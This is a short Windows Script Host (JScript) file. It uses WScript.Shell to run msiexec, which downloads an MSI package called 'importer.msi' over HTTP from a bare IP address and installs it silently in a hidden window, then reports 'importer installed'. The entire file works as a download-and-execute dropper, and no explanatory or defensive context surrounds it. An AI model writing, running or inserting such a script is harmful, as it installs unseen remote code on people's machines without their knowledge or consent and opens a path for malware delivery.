var sh = new ActiveXObject("WScript.Shell");
sh.Run("msiexec.exe /i http://198.51.100.61/files/importer.msi /qn", 0, true);
WScript.Echo("importer installed");
